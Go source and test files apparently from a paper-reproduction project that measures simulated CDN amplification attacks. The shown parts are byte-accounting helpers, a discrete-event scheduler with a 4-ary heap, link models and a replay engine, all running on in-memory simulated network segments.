	readFull(t, c1, buf)

	p := NewProbe(victim, attacker)
	c2, s2 := netsim.Pipe(victim, 0)
	go s2.Write(make([]byte, 5000))
	readFull(t, c2, make([]byte, 5000))
	c3, s3 := netsim.Pipe(attacker, 0)
	go s3.Write(make([]byte, 50))
	readFull(t, c3, make([]byte, 50))

	d := p.Delta()
	if d.VictimBytes != 5000 || d.AttackerBytes != 50 {
		t.Fatalf("Delta = %+v", d)
	}
	if f := d.Factor(); f != 100 {
		t.Errorf("Factor = %v", f)
	}
	if !strings.Contains(d.String(), "factor=100.00") {
		t.Errorf("String = %q", d.String())
	}
}

func TestProbeRequestDelta(t *testing.T) {
	victim := netsim.NewSegment("v")
	attacker := netsim.NewSegment("a")
	p := NewProbe(victim, attacker)
	c, s := netsim.Pipe(attacker, 0)
	done := make(chan struct{})
	go func() { readFull(t, s, make([]byte, 30)); close(done) }()
	if _, err := c.Write(make([]byte, 30)); err != nil {
		t.Fatal(err)
	}
	<-done
	vu, au := p.RequestDelta()
	if vu != 0 || au != 30 {
		t.Errorf("RequestDelta = %d,%d", vu, au)
	}
}

func readFull(t *testing.T, r interface{ Read([]byte) (int, error) }, buf []byte) {
	t.Helper()
	for n := 0; n < len(buf); {
		m, err := r.Read(buf[n:])
		if err != nil {
			t.Fatal(err)
		}
		n += m
	}
}

func TestFormatBytes(t *testing.T) {
	tests := []struct {
		n    int64
		want string
	}{
		{0, "0B"},
		{1707, "1707B"},
		{86745, "86.7KB"},
		{12456915, "12.5MB"},
		{26214400, "26.2MB"},
		{12_000_000_000, "12.0GB"},
	}
	for _, tt := range tests {
		if got := FormatBytes(tt.n); got != tt.want {
			t.Errorf("FormatBytes(%d) = %q, want %q", tt.n, got, tt.want)
		}
	}
}
