// Package measure computes the paper's measurement quantities:
// per-segment traffic deltas and amplification factors (the ratio of
// victim-side response traffic to attacker-side response traffic).
package measure

import (
	"fmt"

	"repro/internal/netsim"
)

// Amplification is one attack measurement: the response traffic on the
// victim segment versus the attacker segment.
type Amplification struct {
	VictimBytes   int64 // e.g. cdn-origin (SBR) or fcdn-bcdn (OBR) response bytes
	AttackerBytes int64 // e.g. client-cdn response bytes
}

// Factor returns VictimBytes / AttackerBytes, or 0 when the attacker
// received nothing.
func (a Amplification) Factor() float64 {
	if a.AttackerBytes <= 0 {
		return 0
	}
	return float64(a.VictimBytes) / float64(a.AttackerBytes)
}

// String renders the measurement the way Table IV/V rows read.
func (a Amplification) String() string {
	return fmt.Sprintf("victim=%dB attacker=%dB factor=%.2f", a.VictimBytes, a.AttackerBytes, a.Factor())
}

// Probe snapshots segments before an attack run so the delta can be
// attributed to that run alone.
type Probe struct {
	victim   *netsim.Segment
	attacker *netsim.Segment
	v0, a0   netsim.Traffic
	vw0, aw0 netsim.Traffic
}

// NewProbe starts measuring the two segments.
func NewProbe(victim, attacker *netsim.Segment) *Probe {
	return &Probe{
		victim:   victim,
		attacker: attacker,
		v0:       victim.Traffic(),
		a0:       attacker.Traffic(),
		vw0:      victim.WireTraffic(),
		aw0:      attacker.WireTraffic(),
	}
}

// Delta returns the response-byte amplification accumulated since the
// probe was created, at application level.
func (p *Probe) Delta() Amplification {
	v, a := p.victim.Traffic(), p.attacker.Traffic()
	return Amplification{
		VictimBytes:   v.Down - p.v0.Down,
		AttackerBytes: a.Down - p.a0.Down,
	}
}

// WireDelta is Delta at packet-capture level (framing and handshake
// overhead included), matching how the paper measures Table V.
func (p *Probe) WireDelta() Amplification {
	v, a := p.victim.WireTraffic(), p.attacker.WireTraffic()
	return Amplification{
		VictimBytes:   v.Down - p.vw0.Down,
		AttackerBytes: a.Down - p.aw0.Down,
	}
}

// RequestDelta returns the request-direction byte deltas (up-traffic),
// used to confirm attack requests are small.
func (p *Probe) RequestDelta() (victimUp, attackerUp int64) {
	return p.victim.Traffic().Up - p.v0.Up, p.attacker.Traffic().Up - p.a0.Up
}

// FormatBytes renders a byte count with binary-ish units the way the
// paper quotes sizes (1707B, 12MB, …).
func FormatBytes(n int64) string {
	switch {
	case n < 10_000:
		return fmt.Sprintf("%dB", n)
	case n < 10_000_000:
		return fmt.Sprintf("%.1fKB", float64(n)/1000)
	case n < 10_000_000_000:
		return fmt.Sprintf("%.1fMB", float64(n)/1e6)
	default:
		return fmt.Sprintf("%.1fGB", float64(n)/1e9)
	}
}
