package vtime

// This file is the typed priority queue under the event loop and the
// shared links. The previous engine used container/heap, which costs
// an interface{} boxing allocation on every Push and a dynamic
// dispatch on every comparison; at a million clients that boxing alone
// was several allocations per simulated request. heap4 is generic over
// the concrete element type, so elements live inline in the backing
// slice (no boxing, no per-element allocation once the slice has
// grown) and comparisons devirtualize.
//
// The heap is 4-ary rather than binary: half the tree depth for the
// same element count, and the four children of a node share one or two
// cache lines, which is where a discrete-event simulator spends its
// time once allocation is gone. Ordering is total and deterministic —
// every element type embeds a monotonic sequence number that breaks
// ties — and heap4's pop order is pinned against a container/heap
// oracle by the property and fuzz tests in heap_test.go.

// peer is the ordering constraint: x.before(y) reports whether x must
// pop before y. Implementations must be a strict weak order and are
// expected to break primary-key ties on a sequence number so the pop
// order of equal-priority elements is the push order.
type peer[T any] interface{ before(T) bool }

// heap4 is a 4-ary min-heap over T. The zero value is an empty heap
// ready for use; the backing slice grows with Push and is retained
// across Pop, so a drained-and-refilled heap allocates nothing in
// steady state.
type heap4[T peer[T]] struct{ a []T }

// Len returns the number of queued elements.
func (h *heap4[T]) Len() int { return len(h.a) }

// Peek returns the minimum element without removing it. It must not be
// called on an empty heap.
func (h *heap4[T]) Peek() T { return h.a[0] }

// Push adds x.
func (h *heap4[T]) Push(x T) {
	h.a = append(h.a, x)
	// Sift up: a node's parent is (i-1)/4.
	i := len(h.a) - 1
	for i > 0 {
		p := (i - 1) / 4
		if !h.a[i].before(h.a[p]) {
			break
		}
		h.a[i], h.a[p] = h.a[p], h.a[i]
		i = p
	}
}

// Pop removes and returns the minimum element. It must not be called
// on an empty heap.
func (h *heap4[T]) Pop() T {
	top := h.a[0]
	n := len(h.a) - 1
	h.a[0] = h.a[n]
	var zero T
	h.a[n] = zero // release references held by the vacated slot
	h.a = h.a[:n]
	// Sift down: children of i are 4i+1 .. 4i+4.
	i := 0
	for {
		c := 4*i + 1
		if c >= n {
			break
		}
		// m is the smallest of up to four children.
		m := c
		end := c + 4
		if end > n {
			end = n
		}
		for j := c + 1; j < end; j++ {
			if h.a[j].before(h.a[m]) {
				m = j
			}
		}
		if !h.a[m].before(h.a[i]) {
			break
		}
		h.a[i], h.a[m] = h.a[m], h.a[i]
		i = m
	}
	return top
}
