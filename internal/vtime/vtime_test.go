package vtime

import (
	"context"
	"math"
	"sync"
	"testing"
	"time"

	"repro/internal/netsim"
)

func TestSchedulerOrdering(t *testing.T) {
	s := NewScheduler()
	var got []int
	s.After(3*time.Second, func() { got = append(got, 3) })
	s.After(1*time.Second, func() { got = append(got, 1) })
	// Same-instant events run in scheduling order (seq breaks the tie).
	s.After(2*time.Second, func() { got = append(got, 20) })
	s.After(2*time.Second, func() { got = append(got, 21) })
	if err := s.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	want := []int{1, 20, 21, 3}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("order = %v, want %v", got, want)
		}
	}
	if e := s.Elapsed(); e != 3*time.Second {
		t.Errorf("elapsed = %v, want 3s", e)
	}
}

func TestSchedulerClockNeverRewinds(t *testing.T) {
	s := NewScheduler()
	s.After(time.Second, func() {
		// Scheduling into the past clamps to now.
		s.At(0, func() {
			if s.Elapsed() != time.Second {
				t.Errorf("clock rewound to %v", s.Elapsed())
			}
		})
		s.After(-time.Hour, func() {})
	})
	if err := s.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	if s.Pending() != 0 {
		t.Errorf("pending = %d after drain", s.Pending())
	}
}

func TestSchedulerCascade(t *testing.T) {
	// Events scheduling events: a chain of N self-scheduled steps runs
	// to completion and advances the clock by N ticks.
	s := NewScheduler()
	const n = 100000
	count := 0
	var step func()
	step = func() {
		count++
		if count < n {
			s.After(time.Millisecond, step)
		}
	}
	s.After(0, step)
	if err := s.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	if count != n {
		t.Fatalf("ran %d events, want %d", count, n)
	}
	if e := s.Elapsed(); e != (n-1)*time.Millisecond {
		t.Errorf("elapsed = %v", e)
	}
}

func TestSchedulerRunCancel(t *testing.T) {
	s := NewScheduler()
	ctx, cancel := context.WithCancel(context.Background())
	ran := 0
	var step func()
	step = func() {
		ran++
		if ran == 10 {
			cancel()
		}
		s.After(time.Millisecond, step)
	}
	s.After(0, step)
	if err := s.Run(ctx); err != context.Canceled {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	// The loop checks ctx on a stride; it must stop within one stride.
	if ran > 10+ctxCheckEvery {
		t.Errorf("ran %d events after cancellation", ran)
	}
}

// TestSchedulerConcurrentObservers is the -race coverage for the
// documented concurrency contract: Now/NowNanos/Elapsed from other
// goroutines while the loop runs.
func TestSchedulerConcurrentObservers(t *testing.T) {
	s := NewScheduler()
	const n = 20000
	for i := 0; i < n; i++ {
		s.After(time.Duration(i)*time.Microsecond, func() {})
	}
	stop := make(chan struct{})
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var last int64
			for {
				select {
				case <-stop:
					return
				default:
				}
				if now := s.NowNanos(); now < last {
					t.Error("observed clock went backwards")
					return
				} else {
					last = now
				}
				_ = s.Now()
				_ = s.Elapsed()
			}
		}()
	}
	if err := s.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	close(stop)
	wg.Wait()
	if e := s.Elapsed(); e != (n-1)*time.Microsecond {
		t.Errorf("elapsed = %v", e)
	}
}

// TestFluidLinkMatchesReference pins the extracted fluid discipline
// against an inline re-implementation of the original bwsim loop body:
// same flows, same ticks, bit-identical accumulators.
func TestFluidLinkMatchesReference(t *testing.T) {
	link := &FluidLink{CapBytesPerSec: 125e6}
	var refFlows []float64
	refSent, refDone := 0.0, 0

	offer := func(w float64) {
		link.Offer(w)
		refFlows = append(refFlows, w)
	}
	tick := func(dt float64) {
		link.Tick(dt)
		if len(refFlows) == 0 {
			return
		}
		budget := 125e6 * dt
		share := budget / float64(len(refFlows))
		next := refFlows[:0]
		for _, rem := range refFlows {
			sent := math.Min(rem, share)
			refSent += sent
			rem -= sent
			if rem > 1e-9 {
				next = append(next, rem)
			} else {
				refDone++
			}
		}
		refFlows = next
	}

	for sec := 0; sec < 5; sec++ {
		for i := 0; i < 7; i++ {
			offer(25.7e6 * 1.027)
		}
		for i := 0; i < 10; i++ {
			tick(0.1)
		}
	}
	sent, done := link.Drain()
	if sent != refSent || done != refDone {
		t.Fatalf("link (%v, %d) != reference (%v, %d)", sent, done, refSent, refDone)
	}
	if link.Active() != len(refFlows) {
		t.Fatalf("active %d != reference %d", link.Active(), len(refFlows))
	}
}

func TestSharedLinkUncappedLatency(t *testing.T) {
	s := NewScheduler()
	l := NewSharedLink(s, LinkParams{Latency: 30 * time.Millisecond})
	var doneAt time.Duration
	l.Transfer(1<<20, func() { doneAt = s.Elapsed() })
	if err := s.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	if doneAt != 30*time.Millisecond {
		t.Errorf("uncapped transfer completed at %v, want latency alone", doneAt)
	}
}

func TestSharedLinkProcessorSharing(t *testing.T) {
	// One flow alone on a 1 MB/s link: W wire bytes take W/rate seconds.
	// Two simultaneous equal flows: each takes twice as long.
	const rate = 1e6
	app := int64(500 << 10)
	wire := float64(netsim.FrameEstimate(app, 0))

	elapsedFor := func(flows int) time.Duration {
		s := NewScheduler()
		l := NewSharedLink(s, LinkParams{BytesPerSec: rate})
		var last time.Duration
		for i := 0; i < flows; i++ {
			l.Transfer(app, func() { last = s.Elapsed() })
		}
		if err := s.Run(context.Background()); err != nil {
			t.Fatal(err)
		}
		return last
	}
	one := elapsedFor(1)
	two := elapsedFor(2)
	wantOne := time.Duration(wire / rate * 1e9)
	if d := one - wantOne; d < -time.Microsecond || d > time.Microsecond {
		t.Errorf("single flow = %v, want ~%v", one, wantOne)
	}
	if d := two - 2*wantOne; d < -time.Microsecond || d > time.Microsecond {
		t.Errorf("two shared flows = %v, want ~%v", two, 2*wantOne)
	}
}

func TestSharedLinkLateArrivalSlowsEveryone(t *testing.T) {
	// A flow arriving halfway through another's transfer pushes the
	// first completion out: processor sharing, not FIFO.
	const rate = 1e6
	app := int64(500 << 10)
	wire := float64(netsim.FrameEstimate(app, 0))
	s := NewScheduler()
	l := NewSharedLink(s, LinkParams{BytesPerSec: rate})
	var first, second time.Duration
	l.Transfer(app, func() { first = s.Elapsed() })
	half := time.Duration(wire / rate / 2 * 1e9)
	s.After(half, func() {
		l.Transfer(app, func() { second = s.Elapsed() })
	})
	if err := s.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	// First flow: half solo, then shares — total 1.5x the solo time.
	wantFirst := time.Duration(1.5 * wire / rate * 1e9)
	if d := first - wantFirst; d < -time.Microsecond || d > time.Microsecond {
		t.Errorf("first completion = %v, want ~%v", first, wantFirst)
	}
	// Second flow: shares until t=1.5x (served half), then solo — done
	// at 2x solo time.
	wantSecond := time.Duration(2 * wire / rate * 1e9)
	if d := second - wantSecond; d < -time.Microsecond || d > time.Microsecond {
		t.Errorf("second completion = %v, want ~%v", second, wantSecond)
	}
	if l.InFlight() != 0 {
		t.Errorf("in-flight = %d after drain", l.InFlight())
	}
}

func TestSharedLinkLossInflatesWireTime(t *testing.T) {
	const rate = 1e6
	app := int64(100 << 10)
	elapsed := func(loss float64) time.Duration {
		s := NewScheduler()
		l := NewSharedLink(s, LinkParams{BytesPerSec: rate, Loss: loss})
		var done time.Duration
		l.Transfer(app, func() { done = s.Elapsed() })
		if err := s.Run(context.Background()); err != nil {
			t.Fatal(err)
		}
		return done
	}
	clean := elapsed(0)
	lossy := elapsed(0.5)
	ratio := float64(lossy) / float64(clean)
	if ratio < 1.99 || ratio > 2.01 {
		t.Errorf("50%% loss inflated time by %.3fx, want ~2x", ratio)
	}
}

// TestReplayExchangeOrdering: the request side of a replayed exchange
// lands at issue time, the response side only after the link clears
// it, and the session-teardown footprint lands after the last request.
func TestReplayExchangeOrdering(t *testing.T) {
	s := NewScheduler()
	seg := &recordingSegment{}
	rep := NewReplay(s)
	p := rep.AddPath([]Hop{{
		Seg:  NewSegmentBatch(s, seg),
		Link: NewSharedLink(s, LinkParams{Latency: 10 * time.Millisecond}),
	}})
	tm := rep.AddTemplate(&Template{
		Reqs:  []ReqSample{{Hops: []Delta{{Up: 100, Down: 5000, Conns: 1}}}},
		Close: []Delta{{Closed: 1}},
		Dials: 1,
	})
	rep.AddClient(0, tm, p)
	// Probe the two phases from closure events interleaved with the
	// replay: flush first, since batches apply lazily.
	s.After(5*time.Millisecond, func() {
		s.Flush()
		if seg.up != 100 || seg.conns != 1 {
			t.Errorf("request side not applied at issue: %+v", *seg)
		}
		if seg.down != 0 || seg.closed != 0 {
			t.Errorf("response side applied early: %+v", *seg)
		}
	})
	if err := rep.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	if seg.down != 5000 || seg.closed != 1 {
		t.Errorf("response side missing: %+v", *seg)
	}
	if s.Elapsed() != 10*time.Millisecond {
		t.Errorf("finished at %v, want link latency", s.Elapsed())
	}
	if rep.Counts.Requests != 1 || rep.Counts.Dials != 1 {
		t.Errorf("counts = %+v", rep.Counts)
	}
}

// TestReplayMultiHopChain: a two-hop request applies upstream-most
// first and chains hops causally; multiple requests serialize; empty
// templates schedule nothing.
func TestReplayMultiHopChain(t *testing.T) {
	s := NewScheduler()
	up, down := &recordingSegment{}, &recordingSegment{}
	rep := NewReplay(s)
	p := rep.AddPath([]Hop{
		{Seg: NewSegmentBatch(s, up), Link: NewSharedLink(s, LinkParams{})},
		{Seg: NewSegmentBatch(s, down), Link: NewSharedLink(s, LinkParams{})},
	})
	tm := rep.AddTemplate(&Template{
		Reqs: []ReqSample{
			{Hops: []Delta{{Up: 10, Down: 1000}, {Up: 12, Down: 900}}, Failed: true},
			{Hops: []Delta{{Up: 10, Down: 1000}, {Up: 12, Down: 900}}, Blocked: true},
		},
		Close: []Delta{{}, {Closed: 1}},
		Dials: 3,
	})
	empty := rep.AddTemplate(&Template{})
	rep.AddClient(time.Second, tm, p)
	rep.AddClient(time.Hour, empty, p) // must not stretch the virtual span
	if err := rep.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	if up.up != 20 || up.down != 2000 || down.up != 24 || down.down != 1800 {
		t.Errorf("per-hop totals wrong: up=%+v down=%+v", *up, *down)
	}
	if down.closed != 1 {
		t.Errorf("teardown missing: %+v", *down)
	}
	if rep.Counts != (Counts{Requests: 2, Failures: 1, Blocked: 1, Dials: 3}) {
		t.Errorf("counts = %+v", rep.Counts)
	}
	if s.Elapsed() != time.Second {
		t.Errorf("elapsed = %v, want 1s (empty client dropped)", s.Elapsed())
	}
}

// TestStreamArrivalsOrdering: streamed entries interleave with heap
// events in timestamp order, and at equal instants the stream wins —
// the tie-break that replicates heaping arrivals before Run.
func TestStreamArrivalsOrdering(t *testing.T) {
	s := NewScheduler()
	var got []uint64
	k := s.RegisterKind(func(idx uint64) { got = append(got, idx) })
	s.After(2*time.Second, func() { got = append(got, 100) })
	s.At(int64(3*time.Second), func() { got = append(got, 101) })
	s.StreamArrivals(k, []Arrival{
		{At: int64(time.Second), Idx: 1},
		{At: int64(2 * time.Second), Idx: 2}, // ties heap event at 2s: stream first
		{At: int64(4 * time.Second), Idx: 3},
	})
	if s.Pending() != 5 {
		t.Fatalf("pending = %d, want 5", s.Pending())
	}
	if err := s.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	want := []uint64{1, 2, 100, 101, 3}
	for i := range want {
		if i >= len(got) || got[i] != want[i] {
			t.Fatalf("order = %v, want %v", got, want)
		}
	}
}

// TestSchedulerFlushOnRun: registered flush hooks run when Run drains
// and on explicit Flush, so batched counters are exact at both points.
func TestSchedulerFlushOnRun(t *testing.T) {
	s := NewScheduler()
	seg := &recordingSegment{}
	b := NewSegmentBatch(s, seg)
	s.After(time.Second, func() { b.Apply(Delta{Up: 7, Conns: 1, Closed: 1}) })
	if err := s.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	if seg.up != 7 || seg.conns != 1 || seg.closed != 1 {
		t.Errorf("batch not flushed by Run: %+v", *seg)
	}
	b.Apply(Delta{Aborted: 2})
	s.Flush()
	if seg.aborted != 2 {
		t.Errorf("explicit Flush missing: %+v", *seg)
	}
}

// recordingSegment is a test BatchSegment capturing every application.
type recordingSegment struct {
	up, down        int64
	conns           int
	closed, aborted int
}

func (r *recordingSegment) AddConn()      { r.conns++ }
func (r *recordingSegment) AddUp(n int)   { r.up += int64(n) }
func (r *recordingSegment) AddDown(n int) { r.down += int64(n) }
func (r *recordingSegment) ConnClosed(aborted bool) {
	if aborted {
		r.aborted++
	} else {
		r.closed++
	}
}

func (r *recordingSegment) AddBatch(up, down, conns, closed, aborted int64) {
	r.up += up
	r.down += down
	r.conns += int(conns)
	r.closed += int(closed)
	r.aborted += int(aborted)
}
