package vtime

import "repro/internal/netsim"

// Segment is the accounting surface of a netsim segment — exactly the
// four methods external transports (the TCP bridge, and now the event
// engine) use to report traffic. *netsim.Segment satisfies it, so a
// simulated connection feeds the same counters, registry series and
// live-conn gauges a real pipe connection does.
type Segment interface {
	AddConn()
	ConnClosed(aborted bool)
	AddUp(n int)
	AddDown(n int)
}

var _ Segment = (*netsim.Segment)(nil)

// BatchSegment is a Segment that can additionally absorb a whole batch
// of accounting in one call. The event engine's hot path requires it:
// per-client AddConn/AddUp calls are four-plus atomic ops per
// simulated request, while a batch is one atomic add per counter per
// event-window.
type BatchSegment interface {
	Segment
	AddBatch(up, down, conns, closed, aborted int64)
}

var _ BatchSegment = (*netsim.Segment)(nil)

// Delta is the per-segment counter change one replayed exchange
// applies: the calibrated per-request footprint a real request left on
// a segment (netsim.Snapshot diffs convert directly via SnapDelta).
type Delta struct {
	Up, Down               int64
	Conns, Closed, Aborted int64
}

// SnapDelta converts a netsim snapshot difference into a replayable
// exchange delta.
func SnapDelta(d netsim.Snapshot) Delta {
	return Delta{Up: d.Up, Down: d.Down, Conns: d.Conns, Closed: d.Closed, Aborted: d.Aborted}
}

// SegmentBatch accumulates replayed deltas for one segment and applies
// them in bulk. It registers with the scheduler's flush set, so the
// counters are exact whenever anyone calls Scheduler.Flush — the obs
// sampling tick does, and Run flushes on return — while the per-event
// cost is plain field additions on an unshared struct.
//
// Accumulation is split open-side / close-side to mirror the pipe
// engine's timing: a request's connection-open and up-bytes land when
// it is issued, its down-bytes and teardown land when the response
// clears the link. Totals are identical either way (the accounting is
// associative); the split only matters to mid-run observers.
type SegmentBatch struct {
	seg  BatchSegment
	pend Delta
}

// NewSegmentBatch returns a batch sink for seg, registered to flush
// with s.
func NewSegmentBatch(s *Scheduler, seg BatchSegment) *SegmentBatch {
	b := &SegmentBatch{seg: seg}
	s.RegisterFlush(b.Flush)
	return b
}

// ApplyOpen accumulates the request-side half of a delta: connection
// opens and up bytes.
func (b *SegmentBatch) ApplyOpen(d Delta) {
	b.pend.Conns += d.Conns
	b.pend.Up += d.Up
}

// ApplyClose accumulates the response-side half: down bytes and
// teardowns.
func (b *SegmentBatch) ApplyClose(d Delta) {
	b.pend.Down += d.Down
	b.pend.Closed += d.Closed
	b.pend.Aborted += d.Aborted
}

// Apply accumulates a full delta at once (session-close footprints).
func (b *SegmentBatch) Apply(d Delta) {
	b.ApplyOpen(d)
	b.ApplyClose(d)
}

// Flush pushes the accumulated batch into the segment and zeroes the
// accumulator.
func (b *SegmentBatch) Flush() {
	d := b.pend
	if d == (Delta{}) {
		return
	}
	b.pend = Delta{}
	b.seg.AddBatch(d.Up, d.Down, d.Conns, d.Closed, d.Aborted)
}
