package vtime

import "repro/internal/netsim"

// Segment is the accounting surface of a netsim segment — exactly the
// four methods external transports (the TCP bridge, and now the event
// engine) use to report traffic. *netsim.Segment satisfies it, so a
// simulated connection feeds the same counters, registry series and
// live-conn gauges a real pipe connection does.
type Segment interface {
	AddConn()
	ConnClosed(aborted bool)
	AddUp(n int)
	AddDown(n int)
}

var _ Segment = (*netsim.Segment)(nil)

// Delta is the per-segment counter change one replayed exchange
// applies: the calibrated per-request footprint a real request left on
// a segment (netsim.Snapshot diffs convert directly via SnapDelta).
type Delta struct {
	Up, Down               int64
	Conns, Closed, Aborted int64
}

// SnapDelta converts a netsim snapshot difference into a replayable
// exchange delta.
func SnapDelta(d netsim.Snapshot) Delta {
	return Delta{Up: d.Up, Down: d.Down, Conns: d.Conns, Closed: d.Closed, Aborted: d.Aborted}
}

// addBytes feeds an int64 byte count through netsim's int-typed
// accounting hooks in bounded chunks.
func addBytes(add func(int), n int64) {
	const chunk = 1 << 30
	for n > chunk {
		add(chunk)
		n -= chunk
	}
	if n > 0 {
		add(int(n))
	}
}

// Conn is a simulated connection: event-driven client state standing
// in for the goroutine + bounded-pipe pair of the real substrate. It
// applies calibrated per-request deltas to its segment at virtual
// instants determined by the link model, so counters advance exactly
// as the pipe engine's would while the scheduler, not the Go runtime,
// carries the concurrency.
type Conn struct {
	s    *Scheduler
	seg  Segment
	link *SharedLink
}

// NewConn returns a connection on seg whose response transfers are
// paced by link (nil means an instantaneous hop).
func NewConn(s *Scheduler, seg Segment, link *SharedLink) *Conn {
	return &Conn{s: s, seg: seg, link: link}
}

// Open records the connection opening now (keep-alive sessions whose
// dial is folded into their first exchange's delta skip this).
func (c *Conn) Open() { c.seg.AddConn() }

// Close records the teardown now.
func (c *Conn) Close(aborted bool) { c.seg.ConnClosed(aborted) }

// Apply applies a full delta at the current virtual instant, with no
// transfer time — session-close footprints replay through this.
func (c *Conn) Apply(d Delta) {
	applyOpen(c.seg, d)
	applyCloseSide(c.seg, d)
}

// Exchange models one request/response: the request-side counters
// (connection opens, up bytes) apply immediately, the response-side
// counters (down bytes, closes) apply when the down transfer clears
// the link, and then done fires. done may start the next exchange —
// chained exchanges on one Conn serialize the way requests on one
// keep-alive session do.
func (c *Conn) Exchange(d Delta, done func()) {
	applyOpen(c.seg, d)
	finish := func() {
		applyCloseSide(c.seg, d)
		if done != nil {
			done()
		}
	}
	if c.link == nil {
		c.s.After(0, finish)
		return
	}
	c.link.Transfer(d.Down, finish)
}

func applyOpen(seg Segment, d Delta) {
	for i := int64(0); i < d.Conns; i++ {
		seg.AddConn()
	}
	addBytes(seg.AddUp, d.Up)
}

func applyCloseSide(seg Segment, d Delta) {
	addBytes(seg.AddDown, d.Down)
	for i := int64(0); i < d.Closed; i++ {
		seg.ConnClosed(false)
	}
	for i := int64(0); i < d.Aborted; i++ {
		seg.ConnClosed(true)
	}
}
