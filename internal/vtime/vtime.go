// Package vtime is the discrete-event simulation substrate behind the
// "-engine=vtime" flood paths: a priority-queue event loop over a
// virtual clock, link models (the exact fluid discipline bwsim's Fig 7
// integration uses, plus its continuous-limit processor-sharing form),
// and an event-driven replay engine that drives the same netsim
// segment-accounting surface real pipe connections do.
//
// The pipe engine simulates a flood by running it: one goroutine and
// two bounded in-memory pipes per connection. That reproduces the
// paper's byte counts faithfully but caps concurrency at a few
// thousand clients. The vtime engine replaces goroutines with events:
// each client is a little state machine whose transitions are heap
// entries ordered by (virtual time, sequence number), so a ten-million
// client keep-alive flood is just a few tens of millions of heap
// operations — seconds of wall time, no scheduler pressure, and
// deterministic for a given seed regardless of GOMAXPROCS, because the
// event loop is single-threaded and ties break on sequence number.
//
// The hot path is allocation-free: events are 32-byte tagged records
// ({at, seq, kind, idx}) in a typed 4-ary heap (heap.go), dispatched
// through a handler table to slab-allocated per-client state
// (replay.go), with pre-sorted arrival streams consumed in place
// instead of heaped (StreamArrivals). Closure-based scheduling (At,
// After) remains for cold paths — bwsim's tick cascade, tests — and
// costs one closure allocation per event, but no interface boxing.
//
// Concurrency contract: Scheduler.Now / NowNanos / Elapsed are safe to
// call from any goroutine (the obs sampler reads the clock while a
// flood runs); everything else — After, At, AtKind, Step, Run, and
// every event callback — belongs to the single goroutine driving the
// loop.
package vtime

import (
	"context"
	"sync/atomic"
	"time"
)

// Epoch is the fixed origin of every virtual clock. A constant epoch
// (rather than time.Now at construction) keeps run output byte-stable:
// two runs of the same seed produce identical virtual timestamps.
var Epoch = time.Date(2020, time.June, 29, 0, 0, 0, 0, time.UTC)

// Kind tags an event with the handler that consumes it. Kind zero is
// reserved for closure events scheduled through At/After; every other
// kind comes from RegisterKind.
type Kind uint32

// kindFunc is the reserved closure-dispatch kind: the event's idx
// indexes the scheduler's closure slab.
const kindFunc Kind = 0

// ev is one scheduled event: a 32-byte tagged record instead of the
// old {at, seq, fn func()} closure triple. seq breaks timestamp ties
// in scheduling order, which is what makes the loop deterministic; idx
// is the handler's payload (a replay client index, a link timer
// generation, a closure slab slot).
type ev struct {
	at   int64 // virtual nanoseconds since Epoch
	seq  uint64
	kind Kind
	idx  uint64
}

// before orders events by (at, seq) — the heap4 constraint.
func (e ev) before(o ev) bool {
	if e.at != o.at {
		return e.at < o.at
	}
	return e.seq < o.seq
}

// Arrival is one entry of a pre-sorted event stream: an instant and a
// handler payload. Floods hand the scheduler millions of these in one
// slice (StreamArrivals) instead of heaping each individually.
type Arrival struct {
	At  int64  // virtual nanoseconds since Epoch
	Idx uint64 // payload passed to the stream kind's handler
}

// Scheduler is a single-threaded discrete-event loop with a virtual
// clock. Its Now method is shaped for injection into core.Runtime.Now,
// so metrics exemplars, trace spans and obs samples taken during a
// vtime run carry coherent virtual timestamps.
type Scheduler struct {
	now atomic.Int64 // virtual nanos since Epoch; atomic so observers can read concurrently
	q   heap4[ev]
	seq uint64

	// handlers is the kind-dispatch table; index 0 is the reserved
	// closure kind and stays nil.
	handlers []func(idx uint64)

	// fns is the closure slab behind At/After: slots are recycled
	// through freeFns as their events pop, so closure-heavy cascades
	// reuse a handful of slots instead of growing the slab.
	fns     []func()
	freeFns []uint64

	// stream is the pre-sorted arrival sequence (StreamArrivals),
	// consumed from streamPos; streamKind dispatches its entries. At
	// equal instants stream entries fire before heap events, matching
	// the old behaviour of heaping every arrival before Run started
	// (arrivals held the smallest sequence numbers).
	stream     []Arrival
	streamPos  int
	streamKind Kind

	// flushers run on Flush: batched accounting sinks (SegmentBatch)
	// register here so observers sampling mid-run can see fully
	// applied counters, and Run leaves nothing pending on return.
	flushers []func()
}

// NewScheduler returns an empty scheduler at virtual time Epoch.
func NewScheduler() *Scheduler {
	return &Scheduler{handlers: make([]func(uint64), 1, 8)}
}

// Now returns the current virtual time. Safe for concurrent use.
func (s *Scheduler) Now() time.Time { return Epoch.Add(time.Duration(s.now.Load())) }

// NowNanos returns virtual nanoseconds since Epoch. Safe for
// concurrent use.
func (s *Scheduler) NowNanos() int64 { return s.now.Load() }

// Elapsed returns the virtual time consumed so far. Safe for
// concurrent use.
func (s *Scheduler) Elapsed() time.Duration { return time.Duration(s.now.Load()) }

// RegisterKind adds a handler to the dispatch table and returns its
// kind. Events scheduled with AtKind carry only the kind and a uint64
// payload, so a registered handler costs one closure for the whole
// run instead of one per event.
func (s *Scheduler) RegisterKind(h func(idx uint64)) Kind {
	if s.handlers == nil {
		s.handlers = make([]func(uint64), 1, 8)
	}
	s.handlers = append(s.handlers, h)
	return Kind(len(s.handlers) - 1)
}

// AtKind schedules a tagged event at the absolute virtual instant t
// (nanoseconds since Epoch) — the allocation-free form of At. Instants
// in the past run at the current virtual time; the clock never moves
// backwards.
func (s *Scheduler) AtKind(t int64, kind Kind, idx uint64) {
	if now := s.now.Load(); t < now {
		t = now
	}
	s.seq++
	s.q.Push(ev{at: t, seq: s.seq, kind: kind, idx: idx})
}

